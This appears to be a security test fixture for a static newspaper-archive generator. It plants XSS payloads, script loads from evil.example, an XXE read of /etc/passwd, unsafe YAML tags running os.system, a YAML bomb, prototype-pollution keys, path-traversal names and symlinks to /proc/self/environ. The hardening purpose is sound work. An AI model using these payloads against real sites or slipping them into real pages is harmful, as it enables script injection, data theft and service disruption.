/**
 * A folder of attacks: what a page, a sidecar, a file's name or the settings may hold that was put there to do harm.
 * Whatever runs in a reader's browser calls `pwned()`, opens a dialog, or asks something of `evil.example`.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { writeFiles } from '../../helpers/folders.ts';

/** One attack: what it is, and the files below the seeds folder that make it. `named`: files that a message must name. */
export interface Attack {
  readonly what: string;
  readonly files: Readonly<Record<string, string | Uint8Array>>;
  readonly named?: readonly string[];
}

/** A page as a newspaper prints it, with something in one of its places. */
const page = (place: { title?: string; kicker?: string; text?: string; credit?: string; marker: string }): string =>
  [
    ...(place.kicker === undefined ? [] : [place.kicker, '']),
    `# ${place.title ?? `记事${place.marker}`}`,
    '',
    `本报讯 7月27日,第${place.marker}号记事在市里开始,${place.text ?? '市民可以放心出行'},各部门都到了现场。`,
    '',
    '工作人员介绍,这件事从春天就开始准备,到秋天才能完成。',
    '',
    place.credit ?? '(张波)',
    '',
  ].join('\n');

const article = (fields: string, marker: string): string => `---\n${fields}\n---\n\n${page({ marker })}`;

/** Markup that runs script, each in another way. */
const MARKUP: readonly string[] = [
  '<script>pwned()</script>',
  '<script src=https://evil.example/x.js></script>',
  '<img src=x onerror=pwned()>',
  '<img/src="https://evil.example/x.png">',
  '<svg onload=pwned()><animate onbegin=pwned() attributeName=x dur=1s></svg>',
  '<svg><script>pwned()</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="data:text/html,<script>pwned()</script>"></object>',
  '<embed src=https://evil.example/x.swf>',
  '<form action=https://evil.example/><button autofocus onfocus=pwned()>x</button></form>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<details open ontoggle=pwned()>x</details>',
  '<video><source onerror=pwned()></video>',
  '<input autofocus onfocus=pwned()>',
  '<!-- --><script>pwned()</script><!-- -->',
  '<!--[if true]><script>pwned()</script><![endif]-->',
  '<![CDATA[<script>pwned()</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&lt;script&gt;pwned()&lt;/script&gt;&#60;script&#62;pwned()&#60;/script&#62;',
  '"><script>pwned()</script>',
  "'><script>pwned()</script>",
  '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
  '</title><script>pwned()</script>',
  '</textarea></script></style><script>pwned()</script>',
  '</script><script>pwned()</script>',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '＜script＞pwned()＜/script＞',
  '<x onclick=pwned() style="position:fixed;inset:0">x</x>',
];

/** Links and pictures whose address runs or fetches something. */
const LINKS: readonly string[] = [
  '[读者](javascript:pwned())',
  '[读者](JaVaScRiPt:pwned())',
  '[读者](java\tscript:pwned())',
  '[读者](&#106;avascript:pwned())',
  '[读者](<javascript:pwned()>)',
  '[读者](vbscript:pwned())',
  '[读者](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)',
  '[读者](file:///etc/passwd)',
  '[读者](//evil.example/)',
  '[读者](../../../../etc/passwd)',
  '[读者](https://evil.example/"onmouseover="pwned())',
  '![图](javascript:pwned())',
  '![图](https://evil.example/x.png)',
  '![图](//evil.example/x.png)',
  '![图](data:image/svg+xml,<svg onload=pwned()>)',
  '![图"onerror="pwned()](x.png)',
  '![图](../../../../etc/passwd)',
  '![图](file:///etc/passwd)',
  '<javascript:pwned()>',
  '<https://evil.example/?a="onclick=pwned()>',
  '[读者][r]\n\n[r]: javascript:pwned()',
];

const TEMPLATES: readonly string[] = [
  '<% globalThis.pwned() %>',
  '<%= process.env.HOME %>',
  '<%~ include("layout") %>',
  '<%= it.constructor.constructor("return process")().exit(7) %>',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
];

/** One for each place that a field may be set in: text, attributes of either kind, a title, a script, a style, a template, an address. */
const IN_FIELDS: readonly string[] = [
  '<script>pwned()</script>',
  '"><img src=x onerror=pwned()>',
  "' onfocus='pwned()' autofocus '",
  '</title><script>pwned()</script>',
  '</script><script>pwned()</script>',
  '</style><svg onload=pwned()>',
  '<%= globalThis.pwned() %>',
  'javascript:pwned()',
  '&lt;img src=x onerror=pwned()&gt;',
];

/** Names of what every object has in JavaScript. */
const PROTOTYPE = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype', '__defineGetter__'];

/** Characters that turn, hide or swallow their surroundings. */
const UNSEEN: readonly string[] = [
  '\u202e反转\u202e了',
  '\u202d盖过',
  '\u2066隔\u2067离\u2068不关',
  'شركة\u200f公司\u200e',
  '零\u200b宽\u200c字\u200d符\ufeff\u2060',
  '软\u00ad连字符\u034f\u180e',
  '标签\u{e0041}\u{e0042}',
  '异体\ufe0f\u{e0100}',
  '行\u2028段\u2029\u0085',
  '响\u0007铃\u001b[31m\u009b2J',
  '合'.repeat(3) + '\u0301'.repeat(300),
];

const LONG = '很长的'.repeat(1667);

/** Every name that Windows keeps for a device. */
const DEVICES = ['CON', 'prn', 'AUX', 'nul', 'COM1', 'lpt9', 'CONIN$'];

const many = (what: string, list: readonly string[], make: (one: string, marker: string, i: number) => Attack['files']): Attack[] =>
  list.map((one, i) => ({ what: `${what} ${JSON.stringify(one.slice(0, 60))}`, files: make(one, `${what}${i}`, i) }));

/** A few in one article: all are to be text, so none can hide another. */
const inText = (what: string, list: readonly string[]): Attack[] =>
  many(what, inFours(list), (some, marker, i) => ({
    [`${what}/${i}.md`]: page({ marker, title: `题${some}目${marker}`, text: `正文${some}在此` }),
  }));
const inFours = (list: readonly string[]): string[] => list.flatMap((_, i) => (i % 4 === 0 ? [list.slice(i, i + 4).join('与')] : []));

const YAML_BOMB = ['a0: &a0 [x,x,x,x,x,x,x,x,x]']
  .concat(Array.from({ length: 9 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(',')}]`))
  .concat('title: *a9')
  .join('\n');
const YAML_TAGS = [
  '!!js/function "pwned()"',
  '!!python/object/apply:os.system ["touch pwned"]',
  '!!binary cHduZWQ=',
  '!include /etc/passwd',
];

const fieldsOf = (text: string): string =>
  ['title', 'author', 'section', 'kicker', 'subtitle', 'paper', 'note', 'dateline', 'pageName']
    .map((field) => `${field}: ${JSON.stringify(text)}`)
    .join('\n');

export const ATTACKS: readonly Attack[] = [
  ...inText('markup', MARKUP),
  ...inText('links', LINKS),
  ...inText('templates', TEMPLATES),
  ...inText('unseen', UNSEEN),
  ...inText('prototype', PROTOTYPE),
  ...many('markup in every field', IN_FIELDS, (one, marker, i) => ({
    [`fields/${i}.md`]: article(fieldsOf(one), marker),
  })),
  ...many('unseen in every field', UNSEEN, (one, marker, i) => ({ [`unseen-fields/${i}.md`]: article(fieldsOf(one), marker) })),
  ...many('prototype names in every field', PROTOTYPE, (one, marker, i) => ({
    [`prototype-fields/${i}.md`]: article(fieldsOf(one), marker),
    [`prototype-fields/${one}.md`]: page({ marker: `${marker}名`, title: one, kicker: one, credit: `记者 ${one}` }),
    [`${one}/${one}.md`]: page({ marker: `${marker}夹` }),
  })),
  ...many('prototype names as fields', PROTOTYPE, (one, marker, i) => ({
    [`prototype-keys/${i}.md`]: article(`title: 题${marker}\n${one}: {polluted: pwned}`, marker),
  })),
  ...many('custom tag', YAML_TAGS, (one, marker, i) => ({
    [`tags/${i}.md`]: article(`title: ${one}`, marker),
    [`tags/s${i}.md`]: page({ marker: `${marker}旁` }),
    [`tags/s${i}.yaml`]: `paper: ${one}\n`,
  })),
  {
    what: 'YAML that grows without end, in front matter and in a sidecar',
    files: {
      'bomb/a.md': article(YAML_BOMB, '炸一'),
      'bomb/b.md': page({ marker: '炸二' }),
      'bomb/b.yaml': YAML_BOMB.replace('title:', 'paper:'),
      'bomb/c.md': article(`title: ${'['.repeat(5000)}`, '炸三'),
      'bomb/d.md': article('title: &x [*x]', '炸四'),
      'bomb/e.md': article('<<: {title: 并}\ntitle: 题', '炸五'),
    },
    named: ['bomb/a.md', 'bomb/b.yaml', 'bomb/c.md', 'bomb/d.md'],
  },
  ...many(
    'a name of 5,000 characters in',
    ['title', 'author', 'section', 'kicker', 'subtitle', 'paper', 'pageName'],
    (field, marker, i) => ({
      [`long/${i}.md`]: article(`title: 题${marker}\n${field}: ${LONG}`.replace(/^title: [^\n]*\n(title:)/u, '$1'), marker),
    }),
  ),
  { what: 'overlong lines', files: { 'lines/a.md': page({ marker: '长', text: LONG.repeat(20) }), 'lines/b.md': '-'.repeat(200_000) } },
  {
    what: 'huge nesting',
    files: {
      'nesting/emphasis.md': page({ marker: '叠一', text: `${'**'.repeat(3000)}中${'**'.repeat(3000)}` }),
      'nesting/links.md': page({ marker: '叠二', text: `${'['.repeat(3000)}中${'](x)'.repeat(3000)}` }),
      'nesting/pictures.md': page({ marker: '叠三', text: `${'!['.repeat(3000)}中${'](x)'.repeat(3000)}` }),
      'nesting/quotes.md': page({ marker: '叠四', text: `\n\n${'> '.repeat(3000)}中` }),
      'nesting/brackets.md': page({ marker: '叠五', text: '('.repeat(20_000) }),
      'nesting/stars.md': page({ marker: '叠六', text: '*a_'.repeat(10_000) }),
      'nesting/ticks.md': page({ marker: '叠七', text: '`a``b'.repeat(5_000) }),
      'nesting/table.md': page({ marker: '叠八', text: `\n\n${'|'.repeat(5_000)}\n${'|-'.repeat(5_000)}|\n${'|'.repeat(5_000)}` }),
      [`${'深/'.repeat(60)}deep.md`]: page({ marker: '深' }),
    },
  },
  {
    what: 'bytes that are no text',
    files: {
      'bytes/nul.md': Buffer.concat([Buffer.from(page({ marker: '零' })), Buffer.from([0, 0, 0])]),
      'bytes/surrogates.md': Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(page({ marker: '半' }), 'utf16le'),
        Buffer.from([0x00, 0xd8, 0x41, 0x00, 0x00, 0xdc]),
      ]),
      'bytes/odd.md': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page({ marker: '奇' }), 'utf16le'), Buffer.from([0x41])]),
      'bytes/cesu.md': Buffer.concat([Buffer.from(page({ marker: '代' })), Buffer.from([0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80])]),
      'bytes/overlong.md': Buffer.concat([Buffer.from(page({ marker: '过' })), Buffer.from([0xc0, 0xbc]), Buffer.from('script>')]),
      'bytes/random.md': Uint8Array.from({ length: 4096 }, (_, i) => (i * 167 + 13) % 256),
    },
    named: ['bytes/nul.md', 'bytes/surrogates.md', 'bytes/odd.md', 'bytes/cesu.md', 'bytes/overlong.md', 'bytes/random.md'],
  },
  ...many(
    'a file named',
    [
      '"><img src=x onerror=pwned()>',
      "'onmouseover='pwned()",
      '<script>pwned()<%2fscript>',
      'javascript:pwned()',
      '<% pwned() %>',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      'a\\..\\..\\b',
      'a\nb: error: 不是',
      'a\u001b[31mb',
      '\u202egnp.名',
      '-rf',
      '~',
      '#q=x',
      '?q=x',
      '&amp;',
      'x .',
      ' ',
      '名'.repeat(80),
      'e\u0301',
      ...DEVICES,
    ],
    (name, marker) => ({ [`names/${name}.md`]: page({ marker }) }),
  ),
  {
    what: 'files that differ in case or composition alone',
    files: {
      'case/Page.md': page({ marker: '大' }),
      'case/page.md': page({ marker: '小' }),
      'case/PAGE.MD': page({ marker: '全' }),
      'case/\u00e9.md': page({ marker: '合' }),
      'case/e\u0301.md': page({ marker: '分' }),
    },
  },
  {
    what: 'articles whose ids collide, by their text and as stated',
    files: {
      'ids/same-1.md': page({ marker: '同' }),
      'ids/same-2.md': page({ marker: '同' }),
      'ids/stated-1.md': article('title: 甲题\nid: samesame', '甲'),
      'ids/stated-2.md': article('title: 乙题\nid: samesame', '乙'),
      'ids/SAME.md': article('title: 丙题\nid: SAMESAME', '丙'),
      'ids/climb.md': article('title: 丁题\nid: ../../../climb', '丁'),
      'ids/proto.md': article('title: 戊题\nid: __proto__', '戊'),
      'ids/device.md': article('title: 己题\nid: com1', '己'),
      'ids/markup.md': article('title: 庚题\nid: "\\"><script>pwned()</script>"', '庚'),
    },
    named: ['ids/stated-2.md', 'ids/SAME.md', 'ids/climb.md', 'ids/proto.md', 'ids/device.md', 'ids/markup.md'],
  },
  {
    what: 'a sidecar that corrects what is not there',
    files: {
      'sidecar/a.md': page({ marker: '正' }),
      'sidecar/a.yaml':
        'articles:\n  - lines: 1-99999999\n    title: "<script>pwned()</script>"\n  - lines: [__proto__]\n  - constructor\n',
    },
    named: ['sidecar/a.yaml'],
  },
];

/** Settings that attack every page. */
export const SETTINGS = [
  'title: "</title><script>pwned()</script>"',
  `subtitle: '"><img src=x onerror=pwned()>'`,
  'paper: "<% pwned() %>日报"',
  'address: https://news.example/archive/',
  'owner: "<svg onload=pwned()>"',
  'footer: "</footer><script src=https://evil.example/x.js></script>"',
  'accent: "#1c5a94"',
  'menu:',
  '  "<script>pwned()</script>": https://news.example/"onclick="pwned()',
  'about: |',
  '  <script>pwned()</script> [读者](javascript:pwned()) ![图](https://evil.example/x.png) <img src=x onerror=pwned()>',
  'report: mailto:archive@news.example?subject={id}&body="><script>pwned()</script>',
  'sections:',
  '  "<img src=x onerror=pwned()>": 记事 市民',
  '  __proto__: 秋天',
  '  constructor: 春天',
  '',
].join('\n');

/** Settings that must be refused or named, each alone. */
export const BAD_SETTINGS: readonly (readonly [what: string, yaml: string])[] = [
  ['YAML that grows without end', YAML_BOMB],
  ['a custom tag', 'title: !!js/function "pwned()"\n'],
  ['a script as an address', 'address: "javascript:pwned()"\n'],
  ['a script in the menu', 'menu:\n  甲: "javascript:pwned()"\n'],
  ['a colour that closes the rule', 'accent: "red;}body{background:url(https://evil.example/x)}"\n'],
  ['a name that every object has', '__proto__: {polluted: 1}\n'],
];

/** What cannot be written as name and content: links, pipes, names that are no text. Files that a message must name come back. */
function plantLinks(seeds: string, outside: string): string[] {
  writeFiles(outside, { 'secret.md': page({ marker: '外面的秘密' }), 'secret.yaml': 'paper: [外面的秘密\n' });
  fs.mkdirSync(path.join(seeds, 'out'), { recursive: true });
  const link = (to: string, name: string) => fs.symlinkSync(to, path.join(seeds, 'out', name));
  link(path.join(outside, 'secret.md'), 'file.md');
  link(outside, 'folder');
  link('loop.md', 'loop.md');
  link('/dev/zero', 'zero.md');
  link('/proc/self/environ', 'environ.md');
  fs.writeFileSync(path.join(seeds, 'out/beside.md'), page({ marker: '旁链' }));
  link(path.join(outside, 'secret.yaml'), 'beside.yaml');
  execFileSync('mkfifo', [path.join(seeds, 'out/pipe.md')]);
  fs.writeFileSync(Buffer.concat([Buffer.from(`${seeds}/out/`), Buffer.from([0xff, 0xfe]), Buffer.from('.md')]), page({ marker: '名乱' }));
  return ['out/file.md', 'out/folder', 'out/loop.md', 'out/zero.md', 'out/environ.md', 'out/beside.yaml', 'out/\ufffd\ufffd.md'];
}

/** Writes all of it below `root`: seeds and guzhi.yaml. Hands back the files that messages must name. */
export function plantAttacks(root: string): readonly string[] {
  const seeds = path.join(root, 'seeds');
  for (const { files } of ATTACKS) writeFiles(seeds, files);
  writeFiles(root, { 'guzhi.yaml': SETTINGS });
  return [...ATTACKS.flatMap(({ named }) => named ?? []), ...plantLinks(seeds, path.join(root, 'outside'))];
}
